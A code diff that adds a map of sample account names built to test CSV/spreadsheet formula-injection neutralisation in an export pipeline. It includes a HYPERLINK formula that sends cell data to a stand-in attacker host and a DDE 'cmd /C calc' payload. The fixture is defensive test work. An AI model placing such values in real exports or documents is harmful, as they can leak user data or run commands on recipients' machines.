@@ -111,6 +111,20 @@ export class NameFactory {
   }
 }
 
+/**
+ * Names that a spreadsheet would run as formulas if an export wrote them as they are (formula
+ * injection), given to a few fixed accounts so every export's neutralisation is exercised by
+ * the sample data. By account index; the name drawn for that account is replaced, so the
+ * random streams (and every other account) are unchanged.
+ */
+export const FORMULA_INJECTION_NAMES: ReadonlyMap<number, string> = new Map([
+  [5, '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for invoice")'],
+  [12, '+1 Mobile Ventures'],
+  [27, '-2 Degrees Analytics'],
+  [44, '@SUM(1+1) Holdings'],
+  [63, '=cmd|\' /C calc\'!A0'],
+]);
+
 export const CLIENT_NAMES = [
   'Acme Corp', 'Brightwave Software', 'Quantive', 'Loopline', 'Pipedream Analytics', 'Stackwise',
 ] as const;
